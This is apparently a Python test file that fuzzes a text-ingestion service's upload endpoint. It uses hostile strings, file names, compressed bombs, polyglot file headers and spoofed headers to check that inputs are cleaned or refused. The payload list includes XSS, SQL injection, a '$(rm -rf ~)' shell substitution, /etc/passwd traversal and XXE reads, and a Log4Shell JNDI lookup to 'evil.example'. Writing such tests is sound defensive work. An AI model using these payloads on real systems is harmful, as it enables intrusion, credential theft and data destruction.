"""Strings, names, archives and files that pretend to be others, over ``/process``; headers and forms that trick."""

import asyncio
import gzip
import io
import json
import zipfile
from typing import Any

from bulletproof.ingest import clean_text

NASTY_TEXTS = [
    # confusables, bidi, invisible, zalgo
    "pаypаl", "ⅼⅰⅿⅰⅼⅼ", "ｆｕｌｌ ｗｉｄｔｈ", "𝒻𝒶𝓃𝒸𝓎", "Ⓒⓘⓡⓒⓛⓔ", "ʇxǝʇ", "\u202egnp.exe\u202c x", "\u2066a\u2069 b",
    "\u200fشكرا\u200e",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff", "soft\xadhyphen", "Z̸̡̢͓̘̜̠̪̬̗͈̺̞̎̈́̄̈́̏̐̍̊̃͌͝a̵lgo",
    "a" + "\u0301" * 5000 + "b", "e\u0301 = é", "ﷺ ﷽", "ﬁ ﬂ",
    "\U000e0041\U000e0042 hidden", "\u115f\u1160\u3164 filler", "İı ß ẞ ſ K Å", "أ\u0653\u0655", "क्‍ष न्‌",
    "می‌خواهم", "กำ", "한글 \u1112\u1161\u11ab",
    # emoji
    "👨‍👩‍👧‍👦 family", "🏴‍☠️ pirate", "🇩🇪🇫🇷 flags", "👩🏽‍🚒 tone", "1️⃣ key", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England", "☠︎ text",
    "🧑‍🤝‍🧑" * 200, "❤️‍🔥",
    # markup, templates, queries, shells, formats, formulas
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "'; DROP TABLE results; --",
    "' OR '1'='1", "%s%n%x {0.__class__} %(a)s", "$(rm -rf ~) `id` | cat; && true", "../../../../etc/passwd",
    "C:\\con\\nul",
    "=cmd|' /C calc'!A0", "+1-1", "@SUM(1)", "${jndi:ldap://evil.example/a}", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\x1b[31mred\x1b[0m", "\x07bell", "line\u2028sep\u2029par", "\x85nel", "a\x00b", "\ufffd", "\ufffe\uffff",
    "\U0010ffff",
    "http://169.254.169.254/latest/meta-data", "data:text/html;base64,PHNjcmlwdD4=", "javascript:alert(1)", "null",
    "undefined", "-1", "0x1F", "1e309", "NaN", "true", "[]", "{}", '"', "\\", "\\u0000", "A" * 19_000, "word " * 3_900,
    "中" * 19_000,
]  # fmt: skip


async def test_nasty_texts_come_back_as_they_were_but_for_what_is_invisible(sender: Any) -> None:
    marked = [f"{number}. {text}" for number, text in enumerate(NASTY_TEXTS)]
    expected = list(map(clean_text, marked))
    assert await sender.texts("a.json", json.dumps(marked)) == expected
    assert await sender.texts("a.json", json.dumps([{"text": text} for text in marked], ensure_ascii=False)) == expected
    lines = "\n".join(json.dumps({"text": text}) for text in marked)
    assert await sender.texts("a.jsonl", lines) == expected
    assert await sender.texts("a.jsonl.gz", gzip.compress(lines.encode())) == expected
    for text in NASTY_TEXTS:
        if clean_text(text):
            assert await sender.texts("a.json", json.dumps([text])) == [clean_text(text)]
    plain = [text for text in marked if not {"\n", "\r", "\0"} & set(text)]
    assert await sender.texts("a.txt", "\n\n".join(plain)) == [clean_text(text) for text in plain]


async def test_names_of_files_lead_nowhere_and_mean_what_they_say(sender: Any, tmp_path: Any) -> None:
    for name, shown in (
        ("../../../etc/passwd.json", "passwd.json"), ("..\\..\\boot.json", "boot.json"), ("/etc/cron.d/a.json",
        "a.json"),
        ("C:\\Windows\\a.json", "a.json"), ("a.json\x00.txt", None), ("..json", None), (".json", None), ("a.JSON",
        "a.JSON"),
        ("a" * 500 + ".json", None), ("ä中😀.json", "ä中😀.json"), ("\u202enosj.exe.json", None), ("a;b.json", None),
        ("$(id).json", None), ("<script>.json", None), ("a b.json", None), ("con.json", None), ("a.txt.json", None),
        ("'; DROP.json", None), ("=1+1.json", None), ("%2e%2e%2fa.json", None), ("a.json ", None),
        ("\r\nX: y.json", None),
    ):  # fmt: skip
        status, body = await sender.file(name, '["good"]')
        assert status in (200, 415, 422), (name, body)
        if status == 200:
            given = body["filename"]
            assert given is None or not {"/", "\\", "\0", "\r", "\n"} & set(given), (name, given)
            assert shown is None or given == shown, (name, given)
    for name in (
        "a.xml",
        "a.exe",
        "a.json.exe",
        "a.csv.zip",
        "a.html",
        "a.svg",
        "a.pkl",
        "a.xlsx",
        "a.json.bak",
        "a.",
        "a.gz.xyz",
    ):
        status, body = await sender.file(name, '["good"]')
        assert status in (200, 415), (name, body)
        assert status == 415 or name == "a.", (name, body)
    assert {path.name for path in tmp_path.iterdir()} == {"data"}
    assert not list(tmp_path.rglob("*.json")), "files are never kept under the names that they come with"


async def test_bombs_and_false_archives_are_refused(sender: Any) -> None:
    bomb = gzip.compress(b"\0" * 50_000_000)
    rows = gzip.compress((b"a," + b"b" * 2000 + b"\n") * 20_000)
    twice = gzip.compress(gzip.compress(b'["good"]'))
    good = gzip.compress(b'["good"]')
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../a.json", '["good"]')
    for name, content, code in (
        ("a.txt.gz", bomb, ("file_too_large", "unsupported_format")), ("a.csv.gz", rows, ("file_too_large",)),
        ("a.csv.gz", gzip.compress(b"text\n" + b"a\n" * 3_900_000), ("file_too_large",)),
        ("a.json.gz", gzip.compress(b"[" + b'"a",' * 3_000_000 + b'"a"]'), ("file_too_large",)),
        ("a.json.gz", gzip.compress(b" " * 60_000_000 + b"[]"), ("file_too_large",)),
        ("a.json.gz", good[:-4], ("invalid_archive",)), ("a.json.gz", good[:-8] + b"\0" * 8, ("invalid_archive",)),
        ("a.json.gz", good + b"tail", ("invalid_archive",)), ("a.json.gz", b"\x1f\x8b", ("invalid_archive",)),
        ("a.json.gz", b'["good"]', ("invalid_archive",)), ("a.json.gz", twice, ("unsupported_format", "invalid_json")),
        ("a.json", zipped.getvalue(), ("unsupported_format",)), ("a.gz", b"", ("empty_file", "invalid_archive")),
    ):  # fmt: skip
        body = await sender.refusal(name, content)
        assert body["code"] in code, (name, content[:20], body)
    assert await sender.texts("a.json.gz", good + gzip.compress(b" ")) == ["good"]
    assert await sender.texts("upload", good) == ["good"]
    status, body = await sender.file("a.txt", b"x" * (26 * 2**20))
    assert (status, body["code"]) == (413, "file_too_large")


async def test_files_that_are_two_things_are_what_their_name_says_or_nothing(sender: Any) -> None:
    png, pdf, elf = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", b"%PDF-1.7\n%\xe2\xe3\n", b"\x7fELF\x02\x01\x01"
    heads = (png, pdf, elf, b"GIF89a\x01\0\x01\0", b"\xff\xd8\xff\xe0\0\x10JFIF", b"PK\x03\x04\x14\0", b"MZ\x90\0",
    b"SQLite format 3\0",
             b"Rar!\x1a\x07", b"\x80\x04\x95\x10\0\0", b"BZh91AY", b"\xfd7zXZ\0", b"\x28\xb5\x2f\xfd", b"PAR1\x15\x04",
             b"\xd0\xcf\x11\xe0")  # fmt: skip
    for head in heads:
        for name, tail in (
            ("a.json", b'["good"]'),
            ("a.csv", b"\nid,text\n1,good\n"),
            ("a.txt", b"\n\ngood"),
            ("upload", b"\ngood"),
        ):
            body = await sender.refusal(name, head + tail)
            assert body["code"] in ("unsupported_format", "invalid_json"), (name, head, body)
    for content in (
        b'<html><body>["good"]</body></html>',
        b"<?xml version='1.0'?><a/>",
        b"#!/bin/sh\nrm",
        b"id,text\n1,good\n",
    ):
        assert (await sender.refusal("a.json", content))["code"] == "invalid_json", content
    assert (await sender.refusal("a.jsonl", b"id,text\n1,good\n"))["code"] == "too_many_bad_rows"
    assert await sender.texts("a.txt", '["good"]') == ['["good"]']


async def test_long_lines_and_wide_or_deep_files_are_answered_in_time(sender: Any) -> None:
    for name, content in (
        ("a.txt", "a" * 10_000_000), ("a.txt", "word " * 2_000_000), ("a.csv", "id,text\n1," + "b" * 10_000_000),
        ("a.json", '["' + "c" * 10_000_000 + '"]'), ("a.jsonl", '{"text":"' + "d" * 10_000_000 + '"}'),
        ("a.txt", "\n" * 5_000_000), ("a.txt", "\r" * 1_000_000 + "x"), ("a.json", "[" + "[]," * 1_000_000 + "[]]"),
        ("a.json", "[" + "null," * 500_000 + "1]"), ("a.json", '{"a":' * 100_000 + "1" + "}" * 100_000),
    ):  # fmt: skip
        status, body = await sender.file(name, content)
        assert status in (200, 413, 422), (name, body)


async def test_headers_and_forms_that_trick_are_refused_by_type(sender: Any) -> None:
    part = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.json"\r\n%b\r\n["good"]\r\n--x--\r\n'
    kind = "multipart/form-data; boundary=x"
    for extra, statuses in (
        (b"", {200}), (b"Content-Type: application/json\r\n", {200}), (b"Content-Type: text/html\r\n", {200}),
        (b"Content-Type: a/b; charset=rot13\r\n", {200}), (b"Content-Transfer-Encoding: base64\r\n", {200, 400, 422}),
        (b"X: " + b"y" * 10_000 + b"\r\n", {200, 400}), (b"X: y\r\n" * 2_000, {200, 400}), (b"No colon\r\n", {400}),
        (b"Content-Disposition: form-data; name=other\r\n", {422}), (b"\x00: y\r\n", {400}),
        (b"X\r\n folded: y\r\n", {400}),
    ):  # fmt: skip
        status, body = await sender.send("POST", "/process", content=part % extra, headers={"Content-Type": kind})
        assert status in statuses, (extra[:40], body)
    body = part % b""
    for headers, statuses in (
        ({"Content-Type": "multipart/form-data"}, {400}), ({"Content-Type": "multipart/form-data; boundary="}, {400}),
        ({"Content-Type": "multipart/form-data; boundary=" + "x" * 500}, {400}),
        ({"Content-Type": "text/plain"}, {422}),
        ({"Content-Type": kind + "; charset=undefined"}, {200, 400}),
        ({"Content-Type": kind + "; charset=utf-7"}, {200}),
        ({"Content-Type": kind, "Content-Length": "5"}, {200, 400}),
        ({"Content-Type": kind, "Content-Length": "-1"}, {200, 400}),
        ({"Content-Type": kind, "Content-Length": "9" * 30}, {413}),
        ({"Content-Type": kind, "Content-Length": "1e3"}, {200, 400}),
        ({"Content-Type": kind, "Content-Encoding": "gzip"}, {200, 400, 415}),
        ({"Content-Type": kind, "Prefer": "\xff"}, {200}),
        ({"Content-Type": kind, "X-HTTP-Method-Override": "DELETE"}, {200}),
        ({"Content-Type": kind, "Expect": "x"}, {200}),
        ({"Content-Type": kind, "Host": "evil.example"}, {403}),
        ({"Content-Type": kind, "Origin": "http://evil.example"}, {403}),
        ({"Content-Type": kind, "X-Forwarded-For": "127.0.0.1"}, {403}),
        ({"Content-Type": kind, "Accept": "a" * 9000}, {200}),
        ({"Content-Type": kind, "X-Request-ID": "a\x1b[31m"}, {200}),
        ({"Content-Type": kind, "Range": "bytes=0-1"}, {200}),
    ):  # fmt: skip
        raw = {name: value.encode("latin-1") for name, value in headers.items()}
        status, answer = await sender.send("POST", "/process", content=body, headers=raw)
        assert status in statuses, (str(headers)[:200], answer)
    for fields in (
        {"text_field": "no"}, {"text_field": "\ud800".encode("utf-8",
        "replace").decode()}, {"text_field": "x" * 100_000},
        {"labels": ","}, {"labels": "a," * 10_000}, {"fallback": "maybe"}, {"fallback": "1" * 1000}, {"unknown": "1"},
        {"file": "text"}, {"text_field": "text\x00"}, {"labels": "\u202e,a"},
    ):  # fmt: skip
        status, answer = await sender.file("a.json", '[{"text": "good"}]', **fields)
        assert status in (200, 400, 422), (str(fields)[:100], answer)
    many = [("file", ("a.json", b'["good"]'))] * 1100
    status, answer = await sender.send("POST", "/process", files=many)
    assert status in (400, 422), answer


async def test_requests_without_a_body_or_its_length_keep_no_place(sender: Any) -> None:
    async with asyncio.timeout(60):
        for path in ("/process", "/predict", "/batches"):
            for headers in ({}, {"Content-Length": "0"}, {"Content-Type": "multipart/form-data; boundary=x"}):
                for _ in range(12):  # more than there are places
                    status, _ = await sender.send("POST", path, headers=headers)
                    assert status in (400, 415, 422)
        assert await sender.texts("a.json", '["good"]') == ["good"]
